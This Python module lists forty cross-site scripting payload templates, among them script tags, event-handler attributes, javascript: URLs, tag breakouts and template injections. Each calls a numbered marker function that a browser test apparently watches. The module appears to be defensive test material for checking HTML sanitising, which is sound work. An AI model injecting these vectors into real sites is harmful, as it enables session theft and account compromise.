"""Forty ways to put a script into a page. Each calls ``zqx`` with its number {n}, which a browser test watches."""

TEMPLATES = [
    "<script>zqx({n})</script>",
    "<ScRiPt>zqx({n})</sCrIpT>",
    "</script><script>zqx({n})</script>",
    "<script/src=data:,zqx({n})>",
    "<scr<script>ipt>zqx({n})</scr</script>ipt>",
    "<img src=x onerror=zqx({n})>",
    "<img/src/onerror=zqx({n})>",
    '"><img src=x onerror=zqx({n})>',
    "'><img src=x onerror=zqx({n})>",
    "`><img src=x onerror=zqx({n})>",
    '" onmouseover=zqx({n}) x="',
    "' onfocus=zqx({n}) autofocus x='",
    '" autofocus onfocus=zqx({n}) "',
    "<svg onload=zqx({n})>",
    "<svg/onload=zqx({n})//",
    "<svg><script>zqx({n})</script></svg>",
    "<svg><animate onbegin=zqx({n}) attributeName=x>",
    "<math><mtext><img src=x onerror=zqx({n})></mtext></math>",
    "<body onload=zqx({n})>",
    "<iframe srcdoc='<script>parent.zqx({n})</script>'>",
    "<iframe src=javascript:parent.zqx({n})>",
    "<object data=javascript:zqx({n})>",
    "<embed src=javascript:zqx({n})>",
    "<a href=javascript:zqx({n})>x</a>",
    "<details open ontoggle=zqx({n})>",
    "<input autofocus onfocus=zqx({n})>",
    "<video><source onerror=zqx({n})></video>",
    "<marquee onstart=zqx({n})>x</marquee>",
    "<style>@import 'javascript:zqx({n})'</style>",
    '<div style="background:url(javascript:zqx({n}))">',
    "<base href=javascript:zqx({n})//>",
    "<meta http-equiv=refresh content='0;javascript:zqx({n})'>",
    "<form action=javascript:zqx({n})><button>x</button></form>",
    "</textarea><script>zqx({n})</script>",
    "</title><script>zqx({n})</script>",
    "--><script>zqx({n})</script>",
    "]]><script>zqx({n})</script>",
    "<div hx-on:load=zqx({n}) hx-get=/ hx-trigger=load>",
    "{{{{ constructor.constructor('zqx({n})')() }}}}",
    "{{% include 'x' %}}<p onclick=zqx({n})>",
]

PAYLOADS = [template.format(n=number) for number, template in enumerate(TEMPLATES, 1)]


def all_of_them() -> str:
    return " ".join(PAYLOADS)


def one_that_fits(number: int, room: int | None) -> str:
    """Payload ``number`` (any whole number), or the next one that has no more than ``room`` letters."""
    fitting = [payload for payload in PAYLOADS if room is None or len(payload) <= room]
    if not fitting:
        return "<b>"[: room or 0]
    return fitting[number % len(fitting)]
